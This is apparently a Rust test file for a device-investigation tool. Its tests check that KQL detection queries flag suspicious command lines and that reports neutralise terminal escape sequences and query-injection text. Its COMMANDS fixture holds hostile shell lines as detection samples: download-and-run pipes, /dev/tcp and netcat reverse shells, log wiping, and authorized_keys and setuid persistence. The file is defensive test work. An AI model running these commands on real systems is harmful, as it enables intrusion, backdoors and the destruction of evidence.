use std::path::{Path, PathBuf};

use super::questions::Needs;
use super::*;
use crate::import;
use crate::kql;

/// Rows of `press-17`, which was broken into, of `press-18`, of which little is known, and of `press-171`.
const FIXTURE: &str = "../tests/fixtures/investigate";

/// The page that lists the questions.
const PAGE: &str = "../docs/kql.md";

/// Four hours after the last row.
fn now() -> i64 {
    time::parse_datetime("2026-11-24T10:00:00Z").unwrap()
}

fn store(dir: &Path) -> Store {
    let settings = import::Settings::default();
    let file = [PathBuf::from(FIXTURE).join("rows.jsonl")];
    let mut complaints = Vec::new();
    import::run(Store::open(dir).unwrap(), settings, &file, &mut Vec::new(), &mut complaints).unwrap();
    assert_eq!(String::from_utf8(complaints).unwrap(), "");
    Store::open_to_read(dir).unwrap()
}

fn settings(device: &str, hub: Option<&str>, since: &str) -> Settings {
    Settings { device: device.to_owned(), hub: hub.map(str::to_owned), window: window(since).unwrap() }
}

fn report(settings: &Settings, now: i64, format: Format) -> Result<String, String> {
    let dir = tempfile::tempdir().unwrap();
    let mut out = Vec::new();
    match run_at(&store(dir.path()), settings, now, format, &mut out) {
        Ok(()) => Ok(String::from_utf8(out).unwrap()),
        Err(InvestigateError::Store(why)) => Err(why),
        Err(InvestigateError::Out(error)) => panic!("{error}"),
    }
}

/// Compares with a report that was read by hand, row by row; `WRITE_GOLDEN=1` writes it anew.
fn compare(name: &str, report: &str) {
    let path = Path::new(FIXTURE).join(name);
    if std::env::var_os("WRITE_GOLDEN").is_some() {
        std::fs::write(&path, report).unwrap();
    }
    let golden = std::fs::read_to_string(&path).unwrap();
    assert!(report == golden, "{} differs; WRITE_GOLDEN=1 writes it anew. Now:\n{report}", path.display());
}

#[test]
fn a_break_in_is_told_findings_first() {
    let report = report(&settings("press-17", Some("Plant"), "30d"), now(), Format::Text).unwrap();
    compare("press-17.txt", &report);
    let readme = std::fs::read_to_string("../README.md").unwrap();
    let (_, screen) = readme.split_once("<!-- investigate-screen: begin").unwrap();
    let (screen, _) = screen.split_once("<!-- investigate-screen: end").unwrap();
    let lines = screen.lines().skip(1).filter(|line| !line.starts_with("```") && !line.starts_with('$'));
    for line in lines.filter(|line| line.trim() != "...") {
        assert!(report.lines().any(|known| known == line), "the README shows what is not reported: {line}");
    }
}

#[test]
fn what_is_not_there_is_no_data_and_not_nothing_found() {
    compare("press-18.txt", &report(&settings("press-18", None, "30d"), now(), Format::Text).unwrap());
}

#[test]
fn the_window_ends_with_the_last_event_and_the_silence_after_it_is_a_finding() {
    let months_later = time::parse_datetime("2027-08-24T10:00:00Z").unwrap();
    let report = report(&settings("press-17", None, "30d"), months_later, Format::Text).unwrap();
    assert!(report.contains("2026-10-25 06:00:00 to 2026-11-24 06:00:00"), "{report}");
    assert!(report.contains("FINDINGS: 13 high, 15 medium"), "{report}");
    assert!(report.contains("Nothing came for a day: 1\n    LastSeen             SilentFor\n"), "{report}");
}

#[test]
fn machines_get_every_question_once_and_the_texts_as_the_device_sent_them() {
    for device in ["press-17", "press-18"] {
        let text = report(&settings(device, Some("plant"), "30d"), now(), Format::Json).unwrap();
        assert!(!text.trim_end().contains(|char: char| char.is_control() || char == '\u{202e}'), "{text}");
        let json: Json = serde_json::from_str(&text).unwrap();
        let ids = |part: &str| json[part].as_array().unwrap().iter().map(|one| one["id"].as_str().unwrap().to_owned());
        let nothing = json["nothingFound"].as_array().unwrap().iter().map(|id| id.as_str().unwrap().to_owned());
        let mut asked: Vec<String> =
            ids("findings").chain(nothing).chain(ids("notAnswered")).chain(ids("facts")).collect();
        let mut all: Vec<String> = FINDINGS.iter().chain(FACTS).map(|question| question.id.to_owned()).collect();
        asked.sort();
        all.sort();
        assert_eq!(asked, all);
        let temporary = json["findings"].as_array().unwrap().iter().find(|one| one["id"] == "temporary_programs");
        let agent = temporary.map(|found| &found["rows"][2]["CommandLine"]);
        let sent = (device == "press-17").then(|| Json::from("/tmp/.x/agent \u{1b}[2J\u{9b}31m\u{202e}'"));
        assert_eq!(agent, sent.as_ref());
    }
}

/// Whatever a device or a file says, and wherever: in a cell, a sentence or a heading.
#[test]
fn nothing_speaks_to_the_terminal() {
    const EVIL: &str = "\u{1b}[31m\u{9b}2J\u{202e}\n\u{7}";
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("rows.jsonl");
    let kinds = [
        (
            "LocalUsers",
            json!({"UserName": EVIL, "UserId": "0", "GroupNames": format!("sudo;{EVIL}"),
            "ExtraDetails": {"Shell": EVIL, "PasswordLogin": "empty"}}),
        ),
        (
            "ListeningPorts",
            json!({"Protocol": EVIL, "LocalAddress": EVIL, "LocalPort": "23", "RemoteAddress": EVIL,
            "RemotePort": "*", "ExtraDetails": {"Executable": format!("/tmp/{EVIL}")}}),
        ),
        (
            "Login",
            json!({"UserName": EVIL, "UserId": "0", "Result": "Success", "RemoteAddress": EVIL,
            "Executable": EVIL, "ExtraDetails": {"Method": EVIL}}),
        ),
        (
            "ProcessCreate",
            json!({"Executable": format!("/tmp/{EVIL}"), "CommandLine": format!("curl {EVIL} | sh"),
            "UserId": EVIL, "ExtraDetails": {"ParentExecutable": EVIL}}),
        ),
        ("Diagnostic", json!({"Severity": "Error", "Message": EVIL})),
        (EVIL, json!({"Any": EVIL})),
    ];
    let rows = kinds.map(|(kind, mut details)| {
        details["TimestampUTC"] = json!("2026-11-24T06:00:00Z");
        let row = json!({"DeviceId": "d", "AssociatedResourceId": EVIL, "RawEventName": kind, "EventDetails": details});
        format!("{row}\n")
    });
    std::fs::write(&file, rows.concat()).unwrap();
    let import = import::Settings::default();
    import::run(Store::open(dir.path()).unwrap(), import, &[file], &mut Vec::new(), &mut Vec::new()).unwrap();
    let store = Store::open_to_read(dir.path()).unwrap();
    for format in [Format::Text, Format::Json] {
        let mut out = Vec::new();
        run_at(&store, &settings("d", None, "30d"), now(), format, &mut out).unwrap();
        let report = String::from_utf8(out).unwrap();
        assert!(report.contains("\\u001b[31m"), "{report}");
        let speaks = |char: char| char != '\n' && (char.is_control() || char == '\u{202e}');
        assert!(!report.contains(speaks), "{report:?}");
        assert!(!report.lines().any(|line| line.starts_with("\\u0007")), "a device began a line: {report}");
    }
}

#[test]
fn a_device_the_store_does_not_know_is_told_with_those_it_may_have_been() {
    let ask = |device, hub| report(&settings(device, hub, "30d"), now(), Format::Text).unwrap_err();
    assert_eq!(
        ask("PRESS-7", None),
        "the store has nothing from the device PRESS-7; there is press-17, press-171, press-18; `edgewarden-hub \
         devices` lists all 3"
    );
    assert_eq!(
        ask("zzz\u{1b}[2J", None),
        "the store has nothing from the device zzz\\u001b[2J; `edgewarden-hub devices` lists all 3"
    );
    assert_eq!(
        ask("press-17", Some("mill")),
        "the store has nothing from the device press-17 at a hub mill; it has rows from /edgewarden/hubs/plant"
    );
    // A name is a text in the query and nothing else.
    for name in ["x\" or true //", "\\\" or true //", "x\n|"] {
        assert!(ask(name, None).starts_with("the store has nothing from the device"));
    }
    assert_eq!(window("30d").unwrap(), 30 * time::DAY);
    assert!(window("-1d").is_err() && window("0s").is_err() && window("soon").is_err());
}

#[test]
fn a_question_that_needs_too_much_is_a_sentence_and_the_others_are_answered() {
    let dir = tempfile::tempdir().unwrap();
    let store = store(dir.path());
    let limits = kql::Limits { memory_bytes: 1_200, ..answer::limits() };
    let inquiry = Inquiry { store: &store, device: "press-17", hub: "", since: 0, now: now(), limits };
    let kinds: Vec<Kind> = Inquiry { limits: answer::limits(), ..inquiry }.coverage().unwrap().0;
    let answers: Vec<Answer> = FINDINGS.iter().map(|question| inquiry.answer(question, &kinds)).collect();
    assert!(answers.iter().any(|answer| matches!(answer, Answer::Refused(why) if why.contains("keeps more rows"))));
    assert!(answers.iter().any(|answer| matches!(answer, Answer::Found(_))));
}

/// Which process questions a command line is a finding of.
const COMMANDS: &[(&str, &[&str])] = &[
    ("sh -c 'wget -qO- http://203.0.113.66/x | sh'", &["downloads_that_run"]),
    ("bash -c \"$(curl -fsSL https://example.com/install)\"", &["downloads_that_run"]),
    ("sh -c 'curl -o /opt/x http://203.0.113.66/x; chmod 755 /opt/x'", &["downloads_that_run"]),
    ("sh -c 'echo aGk= | base64 -d | bash'", &["downloads_that_run"]),
    ("tftp -g -l /tmp/m -r m 203.0.113.66", &["downloads_that_run"]),
    ("sh -c 'curl http://203.0.113.66/x -o /srv/x\nchmod +x /srv/x'", &["downloads_that_run"]),
    ("curl https://example.com/api/shared", &[]),
    ("wget -O /srv/image.bin https://example.com/image.bin", &[]),
    ("base64 -d key.b64", &[]),
    ("bash -i >& /dev/tcp/203.0.113.66/443 0>&1", &["remote_shells"]),
    ("nc -e /bin/sh 203.0.113.66 443", &["remote_shells"]),
    ("nc 203.0.113.66 443 -e /bin/sh", &["remote_shells"]),
    ("socat tcp:203.0.113.66:443 EXEC:sh,pty", &["remote_shells"]),
    ("python3 -c 'import pty; pty.spawn(\"sh\")'", &["remote_shells"]),
    ("socat pty,link=/dev/ttyS9 tcp:192.0.2.7:4000", &[]),
    ("nc -z 192.0.2.7 443", &[]),
    ("rsync -e ssh a b", &[]),
    ("rm -rf /var/log/syslog", &["covered_tracks"]),
    ("sh -c 'history -c'", &["covered_tracks"]),
    ("systemctl stop edgewarden.service", &["covered_tracks"]),
    ("pkill -9 edgewarden", &["covered_tracks"]),
    ("iptables -F", &["covered_tracks"]),
    ("systemctl stop cups", &[]),
    ("rm -rf /tmp/build", &[]),
    ("iptables -L", &[]),
    ("crontab -", &["persistence"]),
    ("crontab /srv/jobs", &["persistence"]),
    ("crontab -l", &[]),
    ("sh -c 'echo ssh-ed25519 AAAA >> /home/pi/.ssh/authorized_keys'", &["persistence"]),
    ("systemctl enable --now backdoor", &["persistence"]),
    ("systemctl is-enabled backdoor", &[]),
    ("chmod 4755 /usr/local/bin/x", &["persistence"]),
    ("chmod u+s /usr/local/bin/x", &["persistence"]),
    ("chmod 0755 /usr/local/bin/x", &[]),
    ("useradd -m eve", &["persistence"]),
    ("sh -e /tmp/x.sh", &["temporary_programs"]),
    ("python3 /var/tmp/x.py", &["temporary_programs"]),
    ("ls /tmp/x.sh", &[]),
    ("sh /usr/bin/which /tmp/x", &[]),
];

#[test]
fn command_lines_are_findings_of_the_questions_they_belong_to() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("rows.jsonl");
    let rows = COMMANDS.iter().enumerate().map(|(number, (command, _))| {
        let details = json!({"Executable": "/usr/bin/true", "CommandLine": command, "UserId": "0", "ProcessId": number,
            "ParentProcessId": 1, "TimestampUTC": "2026-11-24T06:00:00Z"});
        json!({"DeviceId": "d", "AssociatedResourceId": "h", "RawEventName": "ProcessCreate", "EventDetails": details})
    });
    std::fs::write(&file, rows.map(|row| format!("{row}\n")).collect::<String>()).unwrap();
    let import = import::Settings::default();
    import::run(Store::open(dir.path()).unwrap(), import, &[file], &mut Vec::new(), &mut Vec::new()).unwrap();
    let store = Store::open_to_read(dir.path()).unwrap();
    let inquiry = Inquiry { store: &store, device: "d", hub: "", since: 0, now: now(), limits: answer::limits() };
    let mut found: Vec<(String, &str)> = Vec::new();
    for question in FINDINGS.iter().filter(|question| question.needs == Needs::Kinds(&["ProcessCreate"])) {
        let table = inquiry.ask(question.query).unwrap();
        let lines = table.rows.iter().filter_map(|row| table.cell(row, "CommandLine"));
        // One row stands for all runs of a program.
        found.extend(lines.map(|line| (line.to_text().to_string(), question.id)));
    }
    for (command, expected) in COMMANDS {
        let by: Vec<&str> = found.iter().filter(|(line, _)| line == command).map(|(_, id)| *id).collect();
        assert_eq!(by, *expected, "{command}");
    }
}

/// A file that no question uses is not asked, one without the lines that stand for the device cannot be, and the page
/// that says what is asked has to name each.
#[test]
fn every_query_file_is_a_question_and_is_documented() {
    let page = std::fs::read_to_string(PAGE).unwrap();
    let mut files: Vec<String> = std::fs::read_dir("../packaging/hub/queries")
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    let all = FINDINGS.iter().chain(FACTS);
    let mut expected: Vec<String> = all.clone().map(|question| format!("{}.kql", question.id)).collect();
    expected.push("coverage.kql".to_owned());
    files.sort();
    expected.sort();
    assert_eq!(files, expected);
    for query in all.map(|question| question.query).chain([questions::COVERAGE]) {
        let (comment, rest) = query.split_once('\n').unwrap();
        assert!(comment.starts_with("// ") && rest.starts_with(answer::PLACEHOLDERS), "{query}");
    }
    let begin =
        "<!-- of hub/src/investigate; rewritten by WRITE_GOLDEN=1 cargo test -p edgewarden-hub investigate -->\n";
    let (before, rest) = page.split_once(begin).unwrap();
    let (listed, after) = rest.split_once("<!-- end of the questions -->\n").unwrap();
    let mut table = String::from("| severity | query | finds |\n| --- | --- | --- |\n");
    for (Question { id, query, .. }, severity) in
        FINDINGS.iter().map(|one| (one, one.severity.name())).chain(FACTS.iter().map(|one| (one, "fact")))
    {
        let finds = query.lines().next().unwrap_or_default().trim_start_matches("// ").trim_end_matches('.');
        table += &format!("| {severity} | `{id}` | {finds} |\n");
    }
    if std::env::var_os("WRITE_GOLDEN").is_some() {
        std::fs::write(PAGE, format!("{before}{begin}{table}<!-- end of the questions -->\n{after}")).unwrap();
    } else {
        assert!(listed == table, "docs/kql.md is not what the table says; WRITE_GOLDEN=1 rewrites it");
    }
}
